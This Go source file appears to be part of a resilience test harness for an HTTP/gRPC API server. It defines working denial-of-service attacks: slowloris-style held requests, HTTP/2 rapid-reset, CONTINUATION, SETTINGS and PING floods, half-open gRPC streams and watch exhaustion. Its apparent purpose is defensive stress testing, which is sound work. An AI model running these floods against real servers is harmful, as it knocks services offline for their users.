package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// wireBombs hold connections, streams and watches, or flood them.
func wireBombs() []bomb {
	return []bomb{
		{name: "bodies that do not come", want: []int{408}, clients: 50, shots: 10, fire: slowBody},
		{name: "heads that do not come", clients: 300, shots: 50, fire: holding("http/1.1", "GET /api HTTP/1.1\r\nHost:")},
		{name: "handshakes that do not come", clients: 300, shots: 50, fire: silent},
		{name: "HTTP/2: streams begun and reset", clients: 8, shots: 2, fire: framing(resets)},
		{name: "HTTP/2: CONTINUATION without end", clients: 8, shots: 2, fire: framing(continuations)},
		{name: "HTTP/2: SETTINGS", clients: 8, shots: 2, fire: framing(settings)},
		{name: "HTTP/2: PING", clients: 8, shots: 2, fire: framing(pings)},
		{name: "HTTP/2: 10,000 streams on a connection", clients: 4, shots: 2, fire: framing(streams)},
		{name: "10,000 watches", want: []int{200, 429}, clients: 10_000, shots: 500, fire: holdWatch},
		{name: "1,024 connections of a known client", clients: 1024, shots: 1024, want: []int{200}, anew: true, fire: holdConnection("Authorization: Bearer " + bad + "\r\n")},
		{name: "1,024 connections of a stranger", clients: 1024, shots: 1024, want: []int{200}, anew: true, fire: holdConnection("")},
		{name: "10,000 half-open streams of gRPC", clients: 10, shots: 10, anew: true, fire: halfOpenStreams},
		{name: "lists that nobody reads, JSON", clients: 100, shots: 30, fire: unread("application/json")},
		{name: "lists that nobody reads, Table", clients: 100, shots: 30, fire: unread("application/json;as=Table;v=v1;g=meta.k8s.io")},
	}
}

// held is how long a client without a task holds its connection.
const held = 2 * time.Second

// pause waits for d, or until ctx ends.
func pause(ctx context.Context, d time.Duration) {
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	<-ctx.Done()
}

func slowBody(ctx context.Context, t *target, _ *http.Client) (int, error) {
	conn, err := t.dial(ctx, "http/1.1")
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", maps1, bad)
	answer := make([]byte, 12)
	if _, err := io.ReadFull(conn, answer); err != nil {
		return 0, err
	}
	code := 0
	_, err = fmt.Sscanf(string(answer), "HTTP/1.1 %d", &code)
	return code, err
}

// holding returns an attack that sends the start of a request and waits.
func holding(protocol, begin string) func(context.Context, *target, *http.Client) (int, error) {
	return func(ctx context.Context, t *target, _ *http.Client) (int, error) {
		conn, err := t.dial(ctx, protocol)
		if err != nil {
			return 0, err
		}
		defer conn.Close()
		_, err = io.WriteString(conn, begin)
		pause(ctx, held)
		return 0, err
	}
}

func silent(ctx context.Context, t *target, _ *http.Client) (int, error) {
	conn, err := t.host.Dial(ctx, "tcp", t.address())
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	pause(ctx, held)
	return 0, nil
}

// holdConnection returns an attack that gets one answer on a new connection, and keeps the connection.
func holdConnection(header string) func(context.Context, *target, *http.Client) (int, error) {
	return func(ctx context.Context, t *target, _ *http.Client) (int, error) {
		conn, err := t.dial(ctx, "http/1.1")
		if err != nil {
			return 0, err
		}
		defer conn.Close()
		defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
		if _, err := io.WriteString(conn, "GET /version HTTP/1.1\r\nHost: x\r\n"+header+"\r\n"); err != nil {
			return 0, err
		}
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return 0, err
		}
		defer resp.Body.Close()
		_, err = io.Copy(io.Discard, resp.Body)
		pause(ctx, 2*held)
		return resp.StatusCode, err
	}
}

// halfOpenStreams starts 1,000 calls that need no authentication, and sends none of their messages.
func halfOpenStreams(ctx context.Context, t *target, _ *http.Client) (int, error) {
	conn, err := t.dial(ctx, "h2") // only gRPC has h2 alone
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return 0, err
	}
	f := http2.NewFramer(conn, conn)
	if err := f.WriteSettings(); err != nil {
		return 0, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	var head bytes.Buffer
	h := hpack.NewEncoder(&head)
	for i := range uint32(1000) {
		head.Reset()
		for _, field := range [][2]string{{":method", "POST"}, {":path", "/balsa.cluster.v1.Cluster/Join"}, {":scheme", "https"}, {":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
			_ = h.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // into memory: cannot fail
		}
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: head.Bytes(), EndHeaders: true}); err != nil {
			return 0, err
		}
	}
	pause(ctx, 2*held)
	return 0, nil
}

// framing returns an attack that opens an HTTP/2 connection and writes frames until the server closes it, or enough
// were written. It reads only what keeps the connection open.
func framing(write func(*http2.Framer, []byte) error) func(context.Context, *target, *http.Client) (int, error) {
	return func(ctx context.Context, t *target, _ *http.Client) (int, error) {
		conn, err := t.dial(ctx, "h2")
		if err != nil {
			return 0, err
		}
		defer conn.Close()
		defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
		if err := conn.SetDeadline(time.Now().Add(held)); err != nil {
			return 0, err
		}
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return 0, err
		}
		return 0, flood(conn, write)
	}
}

func flood(conn *tls.Conn, write func(*http2.Framer, []byte) error) error {
	f := http2.NewFramer(conn, conn)
	if err := f.WriteSettings(); err != nil {
		return err
	}
	var head bytes.Buffer
	h := hpack.NewEncoder(&head)
	for _, field := range [][2]string{{":method", "GET"}, {":path", victim}, {":scheme", "https"}, {":authority", "x"}, {"authorization", "Bearer " + bad}} {
		_ = h.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // into memory: cannot fail
	}
	err := write(f, head.Bytes())
	if ne := net.Error(nil); errors.As(err, &ne) && ne.Timeout() {
		return nil // the server has stopped reading, which bounds its memory
	}
	return err
}

const many = 100_000

func resets(f *http2.Framer, head []byte) error {
	for i := range uint32(many) {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if err := f.WriteRSTStream(2*i+1, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

func continuations(f *http2.Framer, head []byte) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head}); err != nil {
		return err
	}
	var more bytes.Buffer
	_ = hpack.NewEncoder(&more).WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 8000), Sensitive: true})
	for range many {
		if err := f.WriteContinuation(1, false, more.Bytes()); err != nil {
			return err
		}
	}
	return nil
}

func settings(f *http2.Framer, _ []byte) error {
	for range many {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}); err != nil {
			return err
		}
	}
	return nil
}

func pings(f *http2.Framer, _ []byte) error {
	for range many {
		if err := f.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
	return nil
}

func streams(f *http2.Framer, head []byte) error {
	for i := range uint32(10_000) {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
	}
	return nil
}

// holdWatch opens a watch and keeps it.
func holdWatch(ctx context.Context, t *target, c *http.Client) (int, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+t.address()+maps1+"?watch=1&resourceVersion=0&fieldSelector=metadata.name%3Dvictim", nil)
	if err != nil {
		return 0, err
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	pause(ctx, 2*held)
	return resp.StatusCode, nil
}

// unread returns an attack that requests a list on a new connection and does not read it.
func unread(accept string) func(context.Context, *target, *http.Client) (int, error) {
	return holding("http/1.1", "GET "+maps1+" HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "+bad+"\r\nAccept: "+accept+"\r\n\r\n")
}
